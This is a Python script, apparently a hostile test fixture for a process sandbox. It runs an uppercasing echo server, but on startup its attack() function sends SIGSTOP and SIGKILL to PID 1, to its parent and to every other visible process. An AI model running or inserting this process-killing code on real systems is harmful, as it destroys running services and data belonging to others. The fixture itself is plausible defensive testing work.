"""Kills and stops whatever it can see: its parent, its group, everybody."""

import os
import signal
import socket
import sys
import threading

def attack():
    own = os.getpid()
    pids = [int(each) for each in os.listdir("/proc") if each.isdigit() and int(each) != own]
    for pid in (1, os.getppid(), *pids):
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass


signal.signal(signal.SIGHUP, signal.SIG_IGN)


def serve(connection):
    with connection, connection.makefile("rb") as lines:
        try:
            for line in lines:
                connection.sendall(line.upper())
        except ConnectionError:
            pass  # the client is gone; the others go on


def main():
    with socket.create_server(("", int(sys.argv[1])), backlog=64) as welcome:
        while True:
            connection, _ = welcome.accept()
            threading.Thread(target=serve, args=(connection,), daemon=True).start()


attack()
main()
